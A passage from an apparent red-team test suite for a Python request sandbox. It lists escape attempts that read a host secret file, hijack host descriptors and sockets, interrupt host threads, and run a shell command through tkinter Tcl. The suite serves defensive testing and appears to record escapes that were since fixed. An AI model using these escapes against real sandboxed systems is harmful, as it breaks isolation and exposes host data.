        "        with open(target, 'w') as file:\n"
        "            file.write('x')\n"
        "    except Exception:\n"
        "        pass\n"
        "if not forged:\n" + WRITE_TARGET,
        effect=_target_written),
    Attempt(
        "ticket_introspection_reaches_the_scope", 4,
        SCOPE +
        "import gc\n"
        "reached = []\n"
        "if scope is not None:\n"
        "    for probe in (lambda: gc.get_referents(scope), lambda: scope.__reduce_ex__(2),\n"
        "                  lambda: [getattr(scope, name) for name in dir(scope)],\n"
        "                  lambda: vars(scope)):\n"
        "        try:\n"
        "            reached.extend(probe())\n"
        "        except Exception:\n"
        "            pass\n"
        "else:\n"
        "    reached.append(type('Scope', (), {'layers': ()})())\n"
        "def holds_state(value):\n"
        "    return any(hasattr(value, name) for name in ('layers', 'deadline', 'policy'))\n"
        "if any(holds_state(value) for value in reached):\n" + WRITE_TARGET.replace(
            "    ", "        "),
        effect=_target_written),
    Attempt(
        "empty_context_in_a_thread_the_request_started", 4,
        LATER +
        "import contextvars\n"
        "import threading\n"
        "worker = threading.Thread(target=contextvars.Context().run, args=(later,))\n"
        "worker.start()\n"
        "worker.join()\n",
        policy=(("allow_threads", True),), effect=_target_written),
    Attempt(
        "variable_cleared_before_a_thread_starts", 4,
        LATER +
        "import contextvars\n"
        "import threading\n"
        "found = [var for var in contextvars.copy_context() if var.name == 'gae_sandbox.active']\n"
        "if found:\n"
        "    found[0].set(None)\n"
        "worker = threading.Thread(target=later)\n"
        "worker.start()\n"
        "worker.join()\n",
        policy=(("allow_threads", True),), effect=_target_written),
    Attempt(
        "pool_work_in_an_empty_context", 4,
        "import concurrent.futures\n"
        "import contextvars\n"
        "def write():\n"
        "    with open(target, 'w') as file:\n"
        "        file.write('x')\n"
        "with concurrent.futures.ThreadPoolExecutor(2) as pool:\n"
        "    try:\n"
        "        pool.submit(contextvars.Context().run, write).result()\n"
        "    except OSError:\n"
        "        pass\n",
        policy=(("allow_threads", True),), effect=_target_written),
    Attempt(
        "event_loop_callback_in_an_empty_context", 4,
        LATER +
        "import asyncio\n"
        "import contextvars\n"
        "async def main():\n"
        "    loop = asyncio.get_running_loop()\n"
        "    loop.call_soon(later, context=contextvars.Context())\n"
        "    await asyncio.sleep(0)\n"
        "asyncio.run(main())\n",
        effect=_target_written),
    Attempt(
        "variable_reset_leaves_the_with_statement_host_broken", 4,
        "import contextvars\n"
        "found = [var for var in contextvars.copy_context() if var.name == 'gae_sandbox.active']\n"
        "if found:\n"
        "    found[0].set(None)\n",
        after="import gae_sandbox\n"
              "try:\n"
              "    with open(CONFIG['target'] + '.host', 'w') as file:\n"
              "        file.write('host')\n"
              "except OSError:\n"
              "    print('EFFECT: host code is still sandboxed after the request')\n"
              "if MODE != 'plain' and gae_sandbox.current_sandbox() is not None:\n"
              "    print('EFFECT: the request never ended')\n"
              "if MODE == 'plain':\n"
              "    print('EFFECT (control: nothing to break)')\n"),
    Attempt(
        "ticket_of_a_wider_request_put_back", 4,
        "for var, ticket in globals().get('kept', ()):\n"
        "    var.set(ticket)\n"
        "with open(secret_path, 'rb') as file:\n"
        "    result = file.read()\n",
        setup="KEEP_TICKET = ('import contextvars\\n'\n"
              "               'kept = [(v, t) for v, t in contextvars.copy_context().items()\\n'\n"
              "               '        if v.name == \"gae_sandbox.active\"]\\n')\n"
              "if MODE == 'enforce':  # an earlier request, allowed to read the folder, keeps\n"
              "    wide = Sandbox(policy.replace(readable_paths=(CONFIG['outside_dir'],)))\n"
              "    with wide:  # its ticket where the next request finds it\n"
              "        exec(compile(KEEP_TICKET, '<app>', 'exec'), ns)\n",
        after=SECRET_READ),
    Attempt(
        "ended_nested_ticket_has_no_deadline", 4,
        "import contextvars\n"
        "import time\n"
        "import gae_sandbox\n"
        "kept = []\n"
        "def keep():\n"
        "    kept.extend((v, t) for v, t in contextvars.copy_context().items()\n"
        "                if v.name == 'gae_sandbox.active')\n"
        "gae_sandbox.Sandbox(gae_sandbox.Policy.python27(app_root=app_root)).call(keep)\n"
        "for var, ticket in kept:\n"
        "    var.set(ticket)\n"
        "start = time.monotonic()\n"
        "try:\n"
        "    for step in range(40):\n"
        "        time.sleep(0.02)\n"
        "except BaseException:\n"
        "    pass\n"
        "done = time.monotonic() - start > 0.6\n",
        policy=(("deadline", 0.3), ("hard_deadline_grace", 0.3)),
        after="if ns.get('done'):\n    print('EFFECT')\n"),
    Attempt(
        "nested_sandbox_entered_and_never_left", 4,
        "import gae_sandbox\n"
        "gae_sandbox.Sandbox(gae_sandbox.Policy.python27(app_root=app_root)).__enter__()\n",
        after="import gae_sandbox\n"
              "try:\n"
              "    with open(CONFIG['target'] + '.host', 'w') as file:\n"
              "        file.write('host')\n"
              "except OSError:\n"
              "    print('EFFECT: host code stayed sandboxed')\n"
              "if gae_sandbox.current_sandbox() is not None:\n"
              "    print('EFFECT: the nested sandbox outlived the request')\n"),
    Attempt(
        "nested_deadline_left_attached_fires_into_the_host", 4,
        "import gae_sandbox\n"
        "gae_sandbox.Sandbox(gae_sandbox.Policy.python27(app_root=app_root, deadline=0.2,\n"
        "                                               hard_deadline_grace=0.2)).__enter__()\n",
        after="import time\n"
              "try:\n"
              "    for step in range(60):\n"
              "        time.sleep(0.01)\n"
              "except BaseException as error:\n"
              "    print('EFFECT: the host got', type(error).__name__)\n"),
]

_RESULTS_GAP = ("what a callback the app registered returns is used by host code as it is: "
                "the callback runs in the app's sandbox, but {what}")

# -- weakness 5: the host consuming app objects --------------------------------------------------

_IN_HOST = ("the middleware reads it in host code after the request's call returned, outside "
            "call_in_scope, so the app's code runs unsandboxed")

W5 = [
    Attempt(
        "wsgi_list_response_with_a_close_property", 5,
        LATER +
        "class Body(list):\n"
        "    @property\n"
        "    def close(self):\n"
        "        later()\n"
        "        return lambda: None\n"
        "def app(environ, start_response):\n"
        "    start_response('200 OK', [])\n"
        "    return Body([b'ok'])\n",
        runner="wsgi", effect=_target_written,),
    Attempt(
        "wsgi_iterable_with_a_close_property", 5,
        LATER +
        "class Body:\n"
        "    def __iter__(self):\n"
        "        return iter([b'ok'])\n"
        "    @property\n"
        "    def close(self):\n"
        "        later()\n"
        "        return lambda: None\n"
        "def app(environ, start_response):\n"
        "    start_response('200 OK', [])\n"
        "    return Body()\n",
        runner="wsgi", effect=_target_written,),
    Attempt(
        "wsgi_exception_with_a_traceback_property", 5,
        LATER +
        "class Failure(Exception):\n"
        "    @property\n"
        "    def __traceback__(self):\n"
        "        later()\n"
        "        return None\n"
        "def app(environ, start_response):\n"
        "    raise Failure('app failure')\n",
        runner="wsgi", effect=_target_written,),
    Attempt(
        "wsgi_exc_info_tuple_subclass_handed_to_the_server", 5,
        LATER +
        "import sys\n"
        "class ExcInfo(tuple):\n"
        "    def __getitem__(self, index):\n"
        "        later()\n"
        "        return tuple.__getitem__(self, index)\n"
        "def app(environ, start_response):\n"
        "    write = start_response('200 OK', [])\n"
        "    write(b'partial')\n"
        "    try:\n"
        "        raise ValueError('late failure')\n"
        "    except ValueError:\n"
        "        start_response('500 Error', [], ExcInfo(sys.exc_info()))\n"
        "    return [b'']\n",
        runner="wsgi", effect=_target_written,),
    Attempt(
        "wsgi_log_record_keeps_the_apps_exception", 5,
        LATER +
        "class Failure(Exception):\n"
        "    def __str__(self):\n"
        "        later()\n"
        "        return 'app failure'\n"
        "def app(environ, start_response):\n"
        "    raise Failure()\n",
        runner="wsgi", effect=_target_written,
        setup="class HostHandler(logging.Handler):  # a JSON/Sentry-style handler\n"
              "    def emit(self, record):\n"
              "        if record.exc_info:\n"
              "            traceback.format_exception(*record.exc_info)\n"
              "logging.getLogger('gae_sandbox').addHandler(HostHandler())\n",),
    Attempt(
        "code_filename_str_subclass_in_refusal_bookkeeping", 5,
        "busy = []\n"
        "class Name(str):\n"
        "    def __hash__(self):\n"
        "        if not busy:\n"
        "            busy.append(True)\n"
        "            try:\n"
        "                with open(target, 'w') as file:\n"
        "                    file.write('x')\n"
        "            except OSError:\n"
        "                pass\n"
        "            finally:\n"
        "                busy.pop()\n"
        "        return str.__hash__(self)\n"
        "code_filename = Name(app_root + '/evil.py')\n"
        "scratch = {}\n"
        "exec(compile('def go(path):\\n    return open(path).read()\\n', code_filename,\n"
        "             'exec'), scratch)\n"
        "try:\n"
        "    scratch['go'](secret_path + '.missing')\n"
        "except OSError:\n"
        "    pass\n",
        after="if MODE == 'plain':  # a host traceback formatter looking the file up\n"
              "    import linecache\n"
              "    linecache.getline(ns['code_filename'], 1)\n",
        effect=_target_written,),
    Attempt(
        "deadline_on_hard_callback_replaced", 5,
        SCOPE +
        "import time\n"
        "ran = []\n"
        "def later(deadline):\n"
        "    with open(target, 'w') as file:\n"
        "        file.write('x')\n"
        "    ran.append(True)\n"
        "if scope is not None:\n"
        "    scope.deadline.on_hard = later\n"
        "else:\n"
        "    later(None)\n"
        "def wait():\n"
        "    for step in range(100):\n"
        "        if ran:\n"
        "            return\n"
        "        time.sleep(0.02)\n"
        "for attempt in range(20):\n"
        "    try:\n"
        "        wait()\n"
        "    except BaseException:\n"
        "        pass\n"
        "    if ran:\n"
        "        break\n",
        policy=(("deadline", 0.1), ("hard_deadline_grace", 0.1)), effect=_target_written,
        restricted=True,),
    Attempt(
        "close_scope_calls_a_replaced_memory_filesystem", 5,
        SCOPE +
        "class Memory:\n"
        "    def discard(self):\n"
        "        with open(target, 'w') as file:\n"
        "            file.write('x')\n"
        "if scope is not None:\n"
        "    scope.memory = Memory()\n"
        "else:\n"
        "    Memory().discard()\n",
        effect=_target_written, restricted=True,),
    Attempt(
        "sys_stdout_replaced_for_the_hosts_print", 5,
        LATER +
        "import sys\n"
        "class Out:\n"
        "    def write(self, text):\n"
        "        later()\n"
        "        return len(text)\n"
        "    def flush(self):\n"
        "        pass\n"
        "sys.stdout = Out()\n",
        after="try:\n    print('host output')\nexcept Exception:\n    pass\n"
              "sys.stdout = sys.__stdout__\n", effect=_target_written,
        restricted=True,),
    Attempt(
        "code_file_name_subclass_read_by_the_log", 5,
        LATER +
        "class Name(str):\n"
        "    def startswith(self, *args):\n"
        "        later()\n"
        "        return str.startswith(self, *args)\n"
        "def fail():\n"
        "    raise ValueError('app failure')\n"
        "fail.__code__ = fail.__code__.replace(co_filename=Name(app_root + '/app.py'))\n"
        "def app(environ, start_response):\n"
        "    fail()\n",
        runner="wsgi", effect=_target_written),
    Attempt(
        "error_after_the_body_started_reaches_the_server", 5,
        LATER +
        "class Failure(Exception):\n"
        "    def __str__(self):\n"
        "        later()\n"
        "        return 'late failure'\n"
        "def app(environ, start_response):\n"
        "    start_response('200 OK', [])\n"
        "    def body():\n"
        "        yield b'first'\n"
        "        raise Failure()\n"
        "    return body()\n",
        runner="wsgi", effect=_target_written,
        setup="class HostHandler(logging.Handler):  # the server's log formats what it got\n"
              "    def emit(self, record):\n"
              "        if record.exc_info:\n"
              "            traceback.format_exception(*record.exc_info)\n"
              "logging.getLogger('gae_sandbox').addHandler(HostHandler())\n"),
    Attempt(
        "copyreg_reducer_result_pickled_by_the_host", 5,
        LATER +
        "import copyreg\n"
        "class Argument:\n"
        "    def __reduce_ex__(self, protocol):\n"
        "        later()\n"
        "        return (int, (0,))\n"
        "def reducer(number):\n"
        "    return (complex, (Argument(),))\n"
        "copyreg.pickle(complex, reducer)\n",
        after="import pickle\n"
              "try:\n"
              "    pickle.dumps(1j)\n"
              "except Exception:\n"
              "    pass\n",
        effect=_target_written,
        gap=_RESULTS_GAP.format(what="the host's pickle.dumps pickles the reducer's tuple, "
                                "calling its items' __reduce_ex__")),
    Attempt(
        "log_record_factory_result_formatted_by_the_host", 5,
        LATER +
        "import logging\n"
        "class Record(logging.LogRecord):\n"
        "    def getMessage(self):\n"
        "        later()\n"
        "        return 'app record'\n"
        "def factory(*args, **kwargs):\n"
        "    return Record(*args, **kwargs)\n"
        "logging.setLogRecordFactory(factory)\n",
        setup="host_log = logging.getLogger('host')\n"
              "host_log.addHandler(logging.StreamHandler(open(os.devnull, 'w')))\n",
        after="host_log.warning('a host line')\n"
              "logging.setLogRecordFactory(logging.LogRecord)\n",
        effect=_target_written,),
    Attempt(
        "log_record_factory_attribute_formatted_by_the_host", 5,
        LATER +
        "import logging\n"
        "class Text(str):\n"
        "    def __str__(self):\n"
        "        later()\n"
        "        return 'app text'\n"
        "    __format__ = lambda self, spec: str.__format__(self.__str__(), spec)\n"
        "class Message:\n"
        "    def __str__(self):\n"
        "        later()\n"
        "        return 'app message'\n"
        "previous = logging.getLogRecordFactory()\n"
        "def factory(*args, **kwargs):\n"
        "    record = previous(*args, **kwargs)\n"
        "    record.msg = Message()\n"
        "    record.request_id = Text('r1')\n"
        "    return record\n"
        "logging.setLogRecordFactory(factory)\n",
        setup="host_log = logging.getLogger('host')\n"
              "host_handler = logging.StreamHandler(open(os.devnull, 'w'))\n"
              "host_handler.setFormatter(logging.Formatter('%(message)s'))\n"
              "host_log.addHandler(host_handler)\n",
        after="host_log.warning('a host line')\n"
              "logging.setLogRecordFactory(logging.LogRecord)\n",
        effect=_target_written,),
]

# -- weakness 6: threads and exits ---------------------------------------------------------------

W6 = [
    Attempt(
        "interrupt_main_from_the_request_thread", 6,
        "import _thread\n"
        "_thread.interrupt_main()\n",
        runner="thread",),
    Attempt(
        "threading_register_atexit_runs_at_shutdown", 6,
        LATER +
        "import threading\n"
        "threading._register_atexit(later)\n",
        effect=_target_written,),
    Attempt(
        "host_thread_pool_work_queue", 6,
        LATER +
        "import concurrent.futures\n"
        "import concurrent.futures.thread as pool_module\n"
        "future = concurrent.futures.Future()\n"
        "for queue in list(pool_module._threads_queues.values()):\n"
        "    queue.put(pool_module._WorkItem(future, later, (), {}))\n",
        setup="import concurrent.futures\n"
              "host_pool = concurrent.futures.ThreadPoolExecutor(1)\n"
              "host_pool.submit(int).result()\n",
        after="host_pool.shutdown(wait=True)\n", effect=_target_written,
        gap="concurrent.futures.thread._threads_queues holds the work queues of the host's "
            "pool threads: a work item put there runs in a thread started outside any "
            "sandbox"),
    Attempt(
        "asyncgen_firstiter_hook_stays_on_the_thread", 6,
        LATER +
        "import sys\n"
        "sys.set_asyncgen_hooks(firstiter=later)\n",
        after="async def host_generator():\n"
              "    yield 1\n"
              "step = host_generator().__anext__()\n"
              "try:\n"
              "    step.send(None)\n"
              "except StopIteration:\n"
              "    pass\n"
              "sys.set_asyncgen_hooks(firstiter=None, finalizer=None)\n",
        effect=_target_written, restricted=True,),
    Attempt(
        "asyncio_add_signal_handler", 6,
        "import asyncio\n"
        "import signal\n"
        "loop = asyncio.new_event_loop()\n"
        "loop.add_signal_handler(signal.SIGUSR1, print, 'app handler')\n",
        after="import signal\n"
              "if signal.getsignal(signal.SIGUSR1) is not signal.SIG_DFL:\n"
              "    print('EFFECT')\n",
        restricted=True),
    Attempt(
        "faulthandler_loaded_through_a_trampoline_exits", 6,
        "import pkgutil\n"
        "pkgutil.resolve_name('faulthandler:dump_traceback_later')(0.2, exit=True)\n",
        after="time.sleep(1.5)\n", death=True, restricted=True,),
    Attempt(
        "pthread_kill_of_the_hosts_main_thread", 6,
        "import signal\n"
        "import threading\n"
        "signal.pthread_kill(threading.main_thread().ident, signal.SIGINT)\n",
        runner="thread", restricted=True),
    Attempt(
        "raw_thread_error_reported_by_the_interpreter", 6,
        LATER +
        "import _thread\n"
        "import time\n"
        "class Failure(Exception):\n"
        "    def __str__(self):\n"
        "        later()\n"
        "        return 'thread failure'\n"
        "def work():\n"
        "    raise Failure()\n"
        "_thread.start_new_thread(work, ())\n"
        "time.sleep(0.3)\n",
        policy=(("allow_threads", True),), effect=_target_written),
    Attempt(
        "background_thread_error_reported_by_threading", 6,
        LATER +
        "import threading\n"
        "import time\n"
        "import gae_sandbox\n"
        "class Failure(Exception):\n"
        "    def __str__(self):\n"
        "        later()\n"
        "        return 'background failure'\n"
        "def work():\n"
        "    raise Failure()\n"
        "try:\n"
        "    gae_sandbox.start_background_thread(work)\n"
        "except RuntimeError:  # not in a sandbox (the control): an ordinary thread\n"
        "    threading.Thread(target=work).start()\n"
        "time.sleep(0.3)\n",
        policy=(("allow_threads", True), ("allow_background_threads", True)),
        effect=_target_written),
    Attempt(
        "atexit_callback_error_and_repr_reported_at_exit", 6,
        LATER +
        "import atexit\n"
        "class Failure(Exception):\n"
        "    def __str__(self):\n"
        "        later()\n"
        "        return 'exit failure'\n"
        "class Callback:\n"
        "    def __call__(self):\n"
        "        raise Failure()\n"
        "    def __repr__(self):\n"
        "        later()\n"
        "        return 'callback'\n"
        "atexit.register(Callback())\n",
        effect=_target_written),
    Attempt(
        "second_thread_module_made_from_its_spec", 6,
        LATER +
        "import importlib.util\n"
        "import time\n"
        "from importlib.machinery import BuiltinImporter\n"
        "fresh = importlib.util.module_from_spec(BuiltinImporter.find_spec('_thread'))\n"
        "fresh.start_new_thread(later, ())\n"
        "time.sleep(0.3)\n",
        policy=(("allow_threads", True),), effect=_target_written, restricted=True),
    Attempt(
        "second_thread_module_made_by_create_builtin", 6,
        LATER +
        "import _imp\n"
        "import time\n"
        "from importlib.machinery import ModuleSpec\n"
        "fresh = _imp.create_builtin(ModuleSpec('_thread', None))\n"
        "fresh.start_new_thread(later, ())\n"
        "time.sleep(0.3)\n",
        policy=(("allow_threads", True),), effect=_target_written),
    Attempt(
        "nested_deadline_of_an_ended_thread_hits_the_next_thread", 6,
        "import threading\n"
        "import gae_sandbox\n"
        "def enter():\n"
        "    gae_sandbox.Sandbox(gae_sandbox.Policy.python27(\n"
        "        app_root=app_root, deadline=0.3, hard_deadline_grace=0.3)).__enter__()\n"
        "worker = threading.Thread(target=enter)\n"
        "worker.start()\n"
        "worker.join()\n",
        policy=(("allow_threads", True),),
        after="import threading, time\n"
              "hit = []\n"
              "def host_work():\n"
              "    try:\n"
              "        for step in range(100):\n"
              "            time.sleep(0.02)\n"
              "    except BaseException as error:\n"
              "        hit.append(type(error).__name__)\n"
              "for attempt in range(3):  # a new thread usually gets the ended one's ident\n"
              "    worker = threading.Thread(target=host_work)\n"
              "    worker.start()\n"
              "    worker.join()\n"
              "if hit:\n"
              "    print('EFFECT: a host thread got', hit)\n"),
]

#: A red-team pass on the round-2 changes (the import trust record, the C fast paths,
#: gc.callbacks, the record factory): what got through, each stopped since.
ROUND2_REVIEW = [
    Attempt(
        "path_importer_cache_entry_finder_names_any_cached_file", 1,
        _entry_finder_swap(
            "class Loader:\n"
            "    def create_module(self, spec):\n"
            "        return None\n"
            "    def exec_module(self, module):\n"
            "        pass\n"
            "class EntryFinder:\n"
            "    def find_spec(self, fullname, target=None):\n"
            "        if fullname == 'gae_redteam_cached_file':\n"
            "            spec = ModuleSpec(fullname, Loader(),\n"
            "                              origin=os.path.join(app_root, 'main.py'))\n"
            "            spec.cached = secret_path\n"
            "            return spec\n"
            "        return None\n",
            "gae_redteam_cached_file", "result = io.FileIO(secret_path).read()"),
        after=SECRET_READ,),
    Attempt(
        "path_importer_cache_entry_finder_names_an_outside_namespace_folder", 1,
        _entry_finder_swap(
            "class EntryFinder:\n"
            "    def find_spec(self, fullname, target=None):\n"
            "        if fullname == 'gae_redteam_portion':\n"
            "            spec = ModuleSpec(fullname, None, is_package=True)\n"
            "            spec.submodule_search_locations = [outside_dir]\n"
            "            return spec\n"
            "        return None\n",
            "gae_redteam_portion", "result = os.listdir(outside_dir)"),
        after="if 'secret.txt' in (ns.get('result') or ()):\n    print('EFFECT')\n",),
    Attempt(
        "thread_result_and_arguments_released_as_host_code", 6,
        "import _thread\n"
        "import os\n"
        "import time\n"
        "class Late:  # no refusal inside: a refusal's traceback would keep frames alive\n"
        "    def __del__(self):\n"
        "        if os.getcwd() != app_root:  # the request's working directory is app_root\n"
        "            print('EFFECT', flush=True)\n"
        "def work(argument):\n"
        "    return Late()\n"
        "_thread.start_new_thread(work, (Late(),))\n"
        "time.sleep(0.5)\n",
        after="time.sleep(0.3)\n",),
    Attempt(
        "gc_getattr_name_that_answers_equal_the_second_time", 2,
        LATER +
        "import sys\n"
        "gc = sys.modules['gc']\n"
        "class Name(str):\n"
        "    asked = 0\n"
        "    def __eq__(self, other):\n"
        "        Name.asked += 1\n"
        "        return Name.asked > 1\n"
        "    __hash__ = str.__hash__\n"
        "try:  # (plain Python: gc has no __getattr__, the list is its attribute)\n"
        "    found = getattr(gc, '__getattr__', lambda name: gc.callbacks)(Name('callbacks'))\n"
        "except Exception:\n"
        "    found = None\n"
        "if isinstance(found, list):\n"
        "    found.append(later)\n",
        after="import gc\ngc.collect()\n", effect=_target_written,),
    Attempt(
        "log_record_factory_made_callable_after_it_was_set", 5,
        LATER +
        "import logging\n"
        "class Factory:\n"
        "    pass\n"
        "logging.setLogRecordFactory(Factory())\n"
        "def call(self, *args, **kwargs):\n"
        "    later()\n"
        "    return logging.LogRecord(*args, **kwargs)\n"
        "Factory.__call__ = call\n",
        setup="host_log = logging.getLogger('host')\n"
              "host_log.addHandler(logging.StreamHandler(open(os.devnull, 'w')))\n",
        after="try:\n    host_log.warning('a host line')\nexcept Exception:\n    pass\n"
              "logging.setLogRecordFactory(logging.LogRecord)\n",
        effect=_target_written,),
    Attempt(
        "finalize_callback_made_callable_after_it_was_registered", 5,
        LATER +
        "import weakref\n"
        "class Callback:\n"
        "    pass\n"
        "class Holder:\n"
        "    pass\n"
        "keep = Holder()\n"
        "weakref.finalize(keep, Callback())\n"
        "Callback.__call__ = lambda self: later()\n",
        after="import gc\nns.pop('keep', None)\ngc.collect()\n", effect=_target_written,),
    Attempt(
        "a_cycles_finalizer_run_by_the_hosts_collection", 6,
        LATER +
        "class Late:\n"
        "    def __del__(self):\n"
        "        later()\n"
        "cycle = Late()\n"
        "cycle.itself = cycle\n"
        "del cycle\n",
        setup="import gc\ngc.disable()\n", after="gc.enable()\ngc.collect()\n",
        effect=_target_written, restricted=True,
        gap="the collector finalizes an object in a reference cycle (its __del__, weak "
            "reference callbacks, a suspended generator's finally) in whichever thread "
            "collects, the host's included, and nothing marks which request made it "
            "(README, known gaps)"),
    Attempt(
        "open_scope_hands_the_app_its_requests_scope", 4,
        "import io\n"
        "from gae_sandbox import Policy, Sandbox\n"
        "try:\n"
        "    handle = Sandbox(Policy.python27(app_root=app_root)).open_scope()\n"
        "    handle.parent.layers = (Sandbox(Policy.python27(app_root='/'))._layer,)\n"
        "except Exception:\n"
        "    pass\n"
        "result = io.FileIO(secret_path).read()\n",
        after=SECRET_READ,),
]

#: A third pass (independent red-team helpers against this round's main), by weakness.
_HOST_TARGET_FD = ("ns['logfd'] = os.open(CONFIG['target'], os.O_WRONLY | os.O_CREAT)\n")
_TARGET_HAS_DATA = ("if os.path.exists(CONFIG['target']) and os.path.getsize(CONFIG['target']):\n"
                    "    print('EFFECT')\n")
_FINALIZED = ("import gc\n"
              "gc.collect()\n")
THING = LATER + ("class Thing:\n"
                 "    def __del__(self):\n"
                 "        later()\n")

#: app code: run the sandbox ``inner`` past its deadline and grace (catching the soft error)
_OVERRUN_INNER = ("with inner:\n"
                  "    for _ in range(300):\n"  # bounded: the hard deadline comes after 0.1 s
                  "        try:\n"
                  "            time.sleep(0.01)\n"
                  "        except BaseException as error:\n"
                  "            if type(error).__name__ == 'HardDeadlineExceeded':\n"
                  "                break\n")
#: host code: give a hard-deadline callback's thread up to 5 s to write the target
_WAIT_FOR_TARGET = ("for _ in range(500):\n"  # bounded
                    "    if os.path.exists(CONFIG['target']):\n"
                    "        break\n"
                    "    time.sleep(0.01)\n")

ROUND3 = [
    # weakness 3: descriptors given as keywords, or as int subclasses the checks misread
    Attempt(
        "sendfile_keyword_descriptors_read_a_host_file", 3,
        "import os\n"
        "read_end, write_end = os.pipe()\n"
        "os.sendfile(out_fd=write_end, in_fd=hostfd, offset=0, count=64)\n"
        "result = os.read(read_end, 64)\n",
        setup=_HOST_FD, after=SECRET_READ,),
    Attempt(
        "splice_keyword_descriptors_read_a_host_file", 3,
        "import os\n"
        "read_end, write_end = os.pipe()\n"
        "os.splice(src=hostfd, dst=write_end, count=64)\n"
        "result = os.read(read_end, 64)\n",
        setup=_HOST_FD, after=SECRET_READ, requires="os:splice"),
    Attempt(
        "dup2_keywords_put_a_host_file_on_standard_input", 3,
        "import os\n"
        "os.dup2(fd=hostfd, fd2=0)\n"
        "result = os.read(0, 64)\n",
        setup=_HOST_FD, after=SECRET_READ,),
    Attempt(
        "int_subclass_with_a_fileno_reads_a_host_descriptor", 3,
        "import os\n"
        "class Descriptor(int):\n"
        "    def fileno(self):\n"
        "        return 0\n"
        "result = os.read(Descriptor(hostfd), 64)\n",
        setup=_HOST_FD, after=SECRET_READ,),
    Attempt(
        "int_subclass_equal_to_everything_writes_a_host_file", 3,
        "import os\n"
        "class Descriptor(int):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __hash__ = int.__hash__\n"
        "os.write(Descriptor(logfd), b'x')\n",
        setup=_HOST_TARGET_FD, after=_TARGET_HAS_DATA,),
    Attempt(
        "socket_c_initializer_adopts_the_hosts_socket", 3,
        "import socket\n"
        "taken = socket.socket.__new__(socket.socket)\n"
        "socket.socket.__mro__[1].__init__(taken, fileno=hostsock)\n"
        "socket.socket.__mro__[1].close(taken)\n",
        setup="import socket\n"
              "host_socket = socket.create_connection(('127.0.0.1', CONFIG['port']))\n"
              "ns['hostsock'] = host_socket.fileno()\n",
        after="try:\n"
              "    os.fstat(host_socket.fileno())\n"
              "except OSError:\n"
              "    print('EFFECT: the app closed the host socket')\n",),
    Attempt(
        "netlink_socket_reads_the_hosts_interfaces", 3,
        "import socket, struct\n"
        "link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
        "request = struct.pack('=IHHII', 32, 18, 0x301, 1, 0) + bytes(16)\n"  # RTM_GETLINK dump
        "link.send(request)\n"
        "result = link.recv(65536)\n",
        after="if b'lo' in bytes(ns.get('result') or b''):\n    print('EFFECT')\n",
        requires="socket:AF_NETLINK"),
    # weakness 1: a C module no wrapper of the standard library is listed for, reached by
    # renaming app code into the standard library or through a public module
    Attempt(
        "fix_co_filename_makes_app_code_the_standard_librarys", 1,
        "import _imp, os\n"
        "code = compile('import readline\\nresult = readline', '<app>', 'exec')\n"
        "_imp._fix_co_filename(code, os.path.join(os.path.dirname(os.__file__), "
        "'readline.py'))\n"
        "exec(code, globals())\n",
        after="if getattr(ns.get('result'), '__name__', None) == 'readline':\n"
              "    print('EFFECT: the app has the C module readline')\n",
        requires="readline"),
    Attempt(
        "tkinter_tcl_runs_a_shell_command", 1,
        "import tkinter\n"
        "tkinter.Tcl().eval('exec sh -c {' + cmd + '}')\n",
        effect=_marker_made, requires="_tkinter"),
    # weakness 5: what the app registers with process-wide machinery, used later by the host
    Attempt(
        "codec_search_result_functions_called_by_the_host", 5,
        LATER +
        "import codecs\n"
        "def encode(text, errors='strict'):\n"
        "    later()\n"
        "    return b'', 0\n"
        "def search(name):\n"
        "    if name == 'gae_redteam':\n"
        "        return codecs.CodecInfo(encode, encode, name='gae_redteam')\n"
        "codecs.register(search)\n"
        "'x'.encode('gae_redteam')\n",  # the interpreter's codec cache keeps the answer
        after="try:\n    'x'.encode('gae_redteam')\nexcept Exception:\n    pass\n",
        effect=_target_written,),
    Attempt(
        "codec_error_handler_replaces_strict", 5,
        LATER +
        "import codecs\n"
        "def handler(error):\n"
        "    later()\n"
        "    return '', error.end\n"
        "codecs.register_error('strict', handler)\n",
        after="try:\n    b'\\xff'.decode('ascii')\nexcept Exception:\n    pass\n",
        effect=_target_written,),
    Attempt(
        "codec_error_handler_new_name_called_by_the_host", 5,
        LATER +
        "import codecs\n"
        "def handler(error):\n"
        "    later()\n"
        "    return '', error.end\n"
        "codecs.register_error('gae_redteam', handler)\n",
        after="try:\n    b'\\xff'.decode('ascii', 'gae_redteam')\nexcept Exception:\n    pass\n",
        effect=_target_written,),
    Attempt(
        "archive_format_zip_replaced", 5,
        LATER +
        "import shutil\n"
        "def make(base_name, base_dir, **kwargs):\n"
        "    later()\n"
        "    return base_name\n"
        "shutil.register_archive_format('zip', make)\n",
        after="import shutil\n"
              "try:\n"
              "    shutil.make_archive(os.path.join(CONFIG['outdir'], 'a'), 'zip',\n"
              "                        CONFIG['outdir'])\n"
              "except Exception:\n"
              "    pass\n",
        effect=_target_written,),
    Attempt(
        "unpack_format_called_by_the_host", 5,
        LATER +
        "import shutil\n"
        "def unpack(filename, extract_dir):\n"
        "    later()\n"
        "shutil.register_unpack_format('gae_redteam', ['.gaert'], unpack)\n",
        after="import shutil\n"
              "try:\n"
              "    shutil.unpack_archive(os.path.join(CONFIG['outdir'], 'x.gaert'),\n"
              "                          CONFIG['outdir'])\n"
              "except Exception:\n"
              "    pass\n",
        effect=_target_written,),
    Attempt(
        "host_archive_format_unregistered", 2,
        "import shutil\n"
        "shutil.unregister_archive_format('zip')\n",
        after="import shutil\n"
              "if 'zip' not in dict(shutil.get_archive_formats()):\n"
              "    print('EFFECT')\n",),
    Attempt(
        "formatter_set_on_a_host_handler", 5,
        LATER +
        "import logging\n"
        "class Formatter(logging.Formatter):\n"
        "    def format(self, record):\n"
        "        later()\n"
        "        return 'x'\n"
        "handler.setFormatter(Formatter())\n",
        setup="import io, logging\n"
              "handler = logging.StreamHandler(io.StringIO())\n"
              "logging.getLogger('host').addHandler(handler)\n"
              "ns['handler'] = handler\n",
        after="logging.getLogger('host').error('a host error')\n",
        effect=_target_written,),
    Attempt(
        "logger_class_for_the_hosts_loggers", 5,
        LATER +
        "import logging\n"
        "class Logger(logging.Logger):\n"
        "    def __init__(self, name, level=0):\n"
        "        later()\n"
        "        super().__init__(name, level)\n"
        "logging.setLoggerClass(Logger)\n",
        after="logging.getLogger('a.new.host.logger')\n",
        effect=_target_written,),
    Attempt(
        "event_loop_policy_makes_the_hosts_loops", 5,
        LATER +
        "import asyncio\n"
